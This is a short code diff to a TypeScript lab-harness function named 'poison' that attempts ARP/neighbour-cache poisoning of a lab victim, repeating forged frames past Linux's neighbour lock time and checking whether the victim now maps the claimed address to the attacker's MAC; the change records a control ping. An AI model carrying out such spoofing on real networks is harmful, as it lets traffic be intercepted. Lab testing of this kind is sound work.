@@ -11,11 +11,15 @@ async function poison(
   frame: Uint8Array,
 ): Promise<AttackResult> {
   try {
-    await ping(lab, victim.name, claimed);
+    const control = await ping(lab, victim.name, claimed);
     // Linux keeps what it has just learnt for a second (neigh/locktime), so the claim is repeated past that.
     await sendFrames(lab, attacker.name, [frame], { times: 15, everyS: 0.2 });
     const mac = await neighbour(lab, victim.name, claimed);
-    return { succeeded: mac === attacker.mac, evidence: `${victim.name} has ${claimed} at ${mac ?? 'no address'}` };
+    return {
+      succeeded: mac === attacker.mac,
+      control,
+      evidence: `${victim.name} has ${claimed} at ${mac ?? 'no address'}`,
+    };
   } finally {
     await guestOk(lab, victim.name, ['ip', 'neigh', 'flush', 'dev', 'eth0']);
   }
